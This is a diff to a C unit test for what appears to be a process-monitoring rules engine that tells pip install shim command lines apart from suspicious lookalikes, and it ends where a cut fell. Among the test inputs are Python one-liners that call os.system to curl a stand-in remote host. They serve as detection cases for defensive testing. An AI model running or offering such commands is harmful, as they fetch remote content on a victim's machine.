@@ -493,7 +493,7 @@ static void pip_child(const char *exe, const char *cmdline, struct verdict *v)
 	pip_sess = (struct session){ .refs = 1, .id = 3, .root = pip };
 	pip_sess.pm = rules_package_manager(cfg, pip);
 	assert_non_null(pip_sess.pm);
-	rules_eval(cfg, proc(pip, &pip_sess, exe, cmdline), v);
+	eval_gated(cfg, proc(pip, &pip_sess, exe, cmdline), v);
 }
 
 static void expect_shim_excluded(const char *exe, const char *cmdline)
@@ -523,7 +523,8 @@ static void test_pip_shim_variants(void **state)
 	char line[4096];
 
 	(void)state;
-	snprintf(line, sizeof(line), "/root/.venv/bin/python3.12 -u -c %s install --record "
+	snprintf(line, sizeof(line),
+		 "/root/.venv/bin/python3.12 -u -c %s install --record "
 		 "/tmp/pip-record-x/install-record.txt --single-version-externally-managed",
 		 pip_shim);
 	expect_shim_excluded("/root/.venv/bin/python3.12", line);
@@ -534,7 +535,7 @@ static void test_pip_shim_variants(void **state)
 	expect_shim_excluded("/usr/bin/python3.11", line);
 
 	expect_shim_judged("/usr/bin/python3.11", "/usr/bin/python3 -c import os; "
-			   "os.system('curl -s http://198.51.100.1/x')");
+						  "os.system('curl -s http://198.51.100.1/x')");
 	/* the shim's words without its shape */
 	expect_shim_judged("/usr/bin/python3.11",
 			   "/usr/bin/python3 -c import setuptools, os; os.system('curl -s "
